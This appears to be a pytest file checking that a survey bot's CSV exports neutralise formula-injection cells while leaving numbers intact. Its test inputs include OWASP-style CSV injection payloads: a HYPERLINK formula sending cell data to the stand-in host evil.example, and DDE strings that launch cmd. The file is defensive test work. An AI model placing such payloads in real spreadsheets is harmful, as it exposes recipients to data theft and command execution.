"""Formula injection: every CSV the bot writes (the OMB per-response upload, the collection
detail, the public data.csv and dictionary.csv) neutralises a text cell a spreadsheet would
read as a formula, and leaves the numbers the bot formats itself alone."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from bot.core import reports
from bot.core.csvfile import csv_text
from bot.core.public import public_report
from bot.service.publish import render

from . import reference
from .conftest import Bot
from .records import FLOWS, response_record
from .test_console import Browser
from .test_measures_api import forward, survey
from .test_reports import SERVICES, touchpoints_upload_problems

# OWASP's CSV injection examples, and the issue's.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows(text: str) -> list[list[str]]:
    """The cells as a spreadsheet reads them: any line break outside quotes ends a row."""
    return list(csv.reader(io.StringIO(text, newline=None)))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        *((text, "'" + text) for text in HOSTILE[:-1]),
        ("\r=1+1", "'\n=1+1"),  # a line break in a cell is written as "\n"
        ("ok\r=1+1", "ok\n=1+1"),  # quoted, so a spreadsheet does not start a row at "="
        ("fine, thanks", "fine, thanks"),
        ("1 = good", "1 = good"),  # a formula character inside is text to any spreadsheet
        (" =1+1", " =1+1"),  # so is one after a space
        ("'=1+1", "'=1+1"),  # already text
        ("", ""),
        (-0.05, "-0.05"),  # a number the bot writes stays a number
        (-3, "-3"),
        (0.8125, "0.8125"),
        (None, ""),
    ],
)
def test_a_text_cell_a_spreadsheet_would_run_is_neutralised_and_numbers_are_not(
    value: Any, written: str
) -> None:
    [header, row] = rows(csv_text(("a", "b"), [(value, "x")]))
    assert header == ["a", "b"] and row == [written, "x"]


def test_the_omb_upload_neutralises_comments_and_still_passes_touchpoints_check(
    tmp_path: Path,
) -> None:
    records = [response_record(n, ["yes", "1", text]) for n, text in enumerate(HOSTILE, 1)]
    records.append(response_record(9, ["no", "2", "Slow, -2 stars"]))
    records.append(response_record(10, ["no", "2", "ok\r=1+1"]))  # a line break Excel reads
    upload = tmp_path / "a11-fy2027-q1.csv"
    upload.write_text(reference.per_response_csv(records), encoding="utf-8", newline="")
    assert touchpoints_upload_problems(upload) == []
    text = upload.read_bytes().decode("utf-8")
    comments = [row["question_4"] for row in csv.DictReader(io.StringIO(text))]
    # leading tab and CR are removed when the reply is read: what is left begins with "="
    expected = ["'" + t.lstrip("\t\r") for t in HOSTILE] + ["Slow, -2 stars", "ok\n=1+1"]
    assert comments == expected
    assert len(rows(text)) == 1 + len(records)  # no cell's line break ends a row
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows(text) for c in r)


def test_the_collection_detail_neutralises_a_flow_title() -> None:
    hostile = replace(FLOWS["a11-v2-thumbs"], title='=HYPERLINK("http://evil.example")')
    flows = {**FLOWS, "a11-v2-thumbs": hostile}
    records = [response_record(1, ["yes", "1", "ok"])]
    report = reference.quarterly_report(records, SERVICES, flows, 2027, 1)
    [row] = csv.DictReader(io.StringIO(reports.collection_csv(report["collection_detail"])))
    assert row["survey_title"] == '\'=HYPERLINK("http://evil.example")'
    assert row["volume_of_customers"] == "1" and row["fiscal_year"] == "2027"


def test_the_public_data_csv_neutralises_a_group_and_keeps_its_figures() -> None:
    # A value kept before its attribute became a reporting dimension (intake checks only the
    # dimensions declared when the transaction arrives) is a group label in data.csv.
    records = [response_record(n, ["yes", "1", "ok"], attributes={"region": "=cmd|' /C calc'!A0"})
               for n in range(12)]  # fmt: skip
    records += [response_record(100 + n, ["no", "2", "slow"], attributes={"region": "-5"})
                for n in range(12)]  # fmt: skip
    report = reference.quarterly_report(records, SERVICES, FLOWS, 2027, 1)
    files = render(public_report(report, SERVICES))
    data = list(csv.DictReader(io.StringIO(files["data.csv"])))
    groups = {row["group"] for row in data if row["dimension"] == "region"}
    assert groups == {"'=cmd|' /C calc'!A0", "'-5"}
    trust = next(r for r in data if r["measure"] == "trust_positive" and r["group"] == "all")
    assert trust["value"] == "0.5" and float(trust["ci_low"]) > 0
    for text in (files["data.csv"], files["dictionary.csv"]):
        for row in rows(text):
            assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)


async def test_a_comment_that_becomes_a_formula_at_intake_is_neutralised_in_every_download(
    console: Bot,
) -> None:
    # A tab before "=" is removed as the reply is read, leaving a formula: the CSV's writer,
    # not the intake, neutralises it, whatever way the download is made.
    await survey(console, "+12025550140", "f1", ["yes", "1 3", "\t=1+1"])
    await survey(console, "+12025550141", "f2", ["no", "2", "@SUM(A1:A9)"])
    await forward(console)
    assert console.rt.store is not None
    stored = {r["free_text"] for r in await console.rt.store.responses()}
    assert stored == {"=1+1", "@SUM(A1:A9)"}  # the store keeps what was said
    query = "fiscal_year=2027&quarter=1"
    api = await console.client.get(f"/v1/reports/a11?{query}&format=csv",
                                   headers={"Authorization": "Bearer admin-token"})  # fmt: skip
    admin = Browser(console)
    await admin.sign_in("admin-token")
    download = await admin.get(f"/admin/reports/a11.csv?{query}")
    for text in (await api.text(), await download.text()):
        comments = {row["question_4"] for row in csv.DictReader(io.StringIO(text))}
        assert comments == {"'=1+1", "'@SUM(A1:A9)"}


def test_the_cli_report_neutralises_comments(tmp_path: Path) -> None:
    import asyncio

    from adapters.sql import SqlStore, database_url

    from .test_cli import env_with, run_cli

    env = env_with(tmp_path)
    assert run_cli(["migrate"], env).returncode == 0

    async def fill() -> None:
        store = SqlStore(database_url(None, tmp_path))
        await store.write(response_record(1, ["yes", "1", "+1+cmd|' /C calc'!A0"]))
        await store.close()

    asyncio.run(fill())
    out = run_cli(["report", "--fiscal-year", "2027", "--quarter", "1", "--format", "csv"], env)
    [row] = csv.DictReader(io.StringIO(out.stdout))
    assert row["question_4"] == "'+1+cmd|' /C calc'!A0"
